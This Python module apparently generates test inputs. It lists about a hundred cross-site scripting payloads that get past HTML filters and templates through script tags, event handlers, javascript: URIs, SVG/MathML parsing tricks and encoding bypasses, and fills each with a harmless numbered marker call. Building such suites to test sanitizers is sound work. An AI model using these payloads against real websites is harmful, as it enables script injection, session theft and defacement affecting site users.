"""A hundred ways to have a script run where only words belong; each would say so, were it run."""

RUN = "ran('{}')"

# {} is what is to run; the ways in which filters and templates have been got past.
WAYS = """
<script>{}</script>
<SCRIPT>{}</SCRIPT>
<script >{}</script >
<script/x>{}</script>
<script\t>{}</script>
<script\f>{}</script\f>
<<script>{}//<</script>
<scr<script>ipt>{}</scr</script>ipt>
<script type="module">{}</script>
<script src="data:text/javascript,{}"></script>
<script xmlns="http://www.w3.org/1999/xhtml">{}</script>
"><script>{}</script>
'><script>{}</script>
`><script>{}</script>
</title><script>{}</script>
</textarea><script>{}</script>
</style><script>{}</script>
</script><script>{}</script>
</template><script>{}</script>
</noscript><script>{}</script>
--><script>{}</script>
]]><script>{}</script>
</bdi></span></h1><script>{}</script>
<img src=x onerror={}>
<img src=x onerror="{}">
<img src='x' onerror='{}'>
<IMG SRC=x OnErRoR={}>
<img/src=x/onerror={}>
<img src=x: onerror={}//
<img src="x` `<script>{}</script>"` `>
<img src=javascript:{}>
<img srcset=x onerror={}>
<image src=x onerror={}>
<picture><source srcset=x><img onerror={} src=x></picture>
<svg onload={}>
<svg/onload={}>
<svg><script>{}</script></svg>
<svg><animate onbegin={} attributeName=x dur=1s>
<svg><a xlink:href="javascript:{}"><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload={}>#x"/></svg>
<svg><foreignObject><script>{}</script></foreignObject></svg>
<math><mtext></form><form><mglyph><style></math><img src onerror={}>
<math href="javascript:{}">x</math>
<body onload={}>
<body onpageshow={}>
<iframe src="javascript:{}"></iframe>
<iframe srcdoc="<script>parent.{}</script>"></iframe>
<iframe onload={}></iframe>
<embed src="javascript:{}">
<object data="javascript:{}"></object>
<object data="data:text/html,<script>parent.{}</script>"></object>
<video onloadstart={} src=x>
<video><source onerror={}></video>
<audio src=x onerror={}>
<details open ontoggle={}>
<input autofocus onfocus={}>
<select autofocus onfocus={}>
<textarea autofocus onfocus={}>
<button autofocus onfocus={}>
<a autofocus tabindex=0 onfocus={}>x</a>
<div style="animation-name:x" onanimationstart={}>
<style onload={}></style>
<style>@import "javascript:{}";</style>
<link rel=stylesheet href="javascript:{}" onerror={}>
<link rel=import href="data:text/html,<script>{}</script>">
<meta http-equiv=refresh content="0;url=javascript:{}">
<base href="javascript:{}//">
<form action="javascript:{}"><input type=submit></form>
<form><button formaction="javascript:{}">x</button></form>
<marquee onstart={}>x</marquee>
<keygen autofocus onfocus={}>
<a href="javascript:{}">x</a>
<a href="JaVaScRiPt:{}">x</a>
<a href=" javascript:{}">x</a>
<a href="java\tscript:{}">x</a>
<a href="java&#10;script:{}">x</a>
<a href="&#106;avascript:{}">x</a>
<a href="&#x6A;avascript:{}">x</a>
<a href="javascript&colon;{}">x</a>
<a href="data:text/html,<script>opener.{}</script>">x</a>
<a href="vbscript:{}">x</a>
<a href="//x" onclick={}>x</a>
" onmouseover={} x="
' onmouseover={} x='
" autofocus onfocus={} x="
x onerror={} y=
javascript:{}
{{ {} }}
{% {} %}
${{}}
<% {} %>
&lt;script&gt;{}&lt;/script&gt;
%3Cscript%3E{}%3C/script%3E
\u003cscript\u003e{}\u003c/script\u003e
\uff1cscript\uff1e{}\uff1c/script\uff1e
+ADw-script+AD4-{}+ADw-/script+AD4-
<scr\u200bipt>{}</scr\u200bipt>
\u202e<script>{}</script>
<!--<img src="--><img src=x onerror={}//">
<![CDATA[<script>{}</script>]]>
<![CDATA[><img src=x onerror={}>]]>
<!--><img src=x onerror={}>-->
<!---><img src=x onerror={}>-->
<?x ><img src=x onerror={}>?>
<!x ><img src=x onerror={}>
<noembed><img title="</noembed><img src onerror={}>">
""".strip("\n").split("\n")


def payloads() -> list[str]:
    """Each way with a call of its own, so that what ran can be told."""
    return [way.replace("{}", RUN.format(number)) for number, way in enumerate(WAYS)]
